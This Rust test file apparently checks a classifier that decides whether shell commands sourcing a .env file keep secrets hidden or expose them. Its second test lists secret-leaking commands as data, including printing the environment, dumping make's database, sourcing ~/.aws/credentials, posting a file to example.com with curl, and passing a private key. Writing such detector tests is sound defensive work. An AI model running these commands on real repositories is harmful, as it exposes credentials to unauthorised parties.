use countersign_model::{Reversible, verbs};

use crate::fixture::understood;

const PACKAGE: (&str, &str) = (
    "/repo/package.json",
    r#"{"scripts": {"test": "vitest run", "dev": "next dev", "show": "echo $A", "odd": "./x.sh"}}"#,
);

const MAKEFILE: (&str, &str) = ("/repo/Makefile", "test:\n\tpytest -q\n");

fn is_shown(command: &str) -> bool {
    let effects = understood(command, &[PACKAGE, MAKEFILE, ("/repo/.env", "A=1\nB=2\n")]).effects;
    let mut reads = effects.iter().filter(|effect| effect.verb == verbs::SECRET_READ).peekable();
    assert!(reads.peek().is_some(), "{command}");
    reads.any(|effect| effect.reversible != Reversible::Yes)
}

#[test]
fn loaded_for_a_test() {
    for command in [
        "source .env && npm test",
        ". ./.env; pytest -q",
        "set -a; source .env; set +a; npm test",
        "set -a && . .env && set +a && npm run dev",
        "export $(cat .env | xargs) && npm test",
        "export $(grep -v '^#' .env | xargs) && npx vitest run 2>&1 | tail -20",
        "cd /repo && source .env && npm test -- --run",
        "source .env && make test",
    ] {
        assert!(!is_shown(command), "{command}: {}", crate::fixture::check_with(command, &[PACKAGE]));
    }
}

#[test]
fn and_for_anything_else() {
    for command in [
        "source .env",
        "source .env && env",
        "source .env; printenv A",
        "source .env; echo $A",
        "source .env && npm test; echo $A",
        "source .env; set",
        "source .env; npm test; set",
        "source .env; npm test; cat .env",
        "source .env; npm test && export -p",
        "cat .env; npm test",
        "npm test; source .env",
        "source .env && ./run.sh",
        "source .env && make -p",
        "source .env && make -p test",
        "source .env && make -sp test",
        "source .env && make -np",
        "source .env && make --print-data-base test",
        "source .env && make --print-d test",
        "source .env && make test -n",
        "source .env && MAKEFLAGS=p make test",
        "source .env && make MAKEFLAGS=p test",
        "source .env && GNUMAKEFLAGS=-p make test",
        "source .env && timeout 60 make -p test",
        "source .env && just --evaluate",
        "source .env && mvn -X test",
        "source .env && npm run odd",
        "source .env && npm run show",
        "source .env && curl -d @x https://example.com",
        "source .env && cast send --private-key $K",
        "source .env && npm test > $A",
        "source .env && npm test $A",
        "source .env && X=`env` npm test",
        "source .env && npm test | tee all | tail -5",
        "source .env & npm test",
        "source .env && npm test & env",
        "source .env && (npm test; env)",
        "source ~/.aws/credentials && npm test",
        "source .env /dev/stdout && npm test",
        "export $(cat .env | tee x | xargs) && npm test",
        "source .env && npm test\nenv",
        "source .env && python3 -c 'import os; print(os.environ)'",
    ] {
        assert!(is_shown(command), "{command}");
    }
}
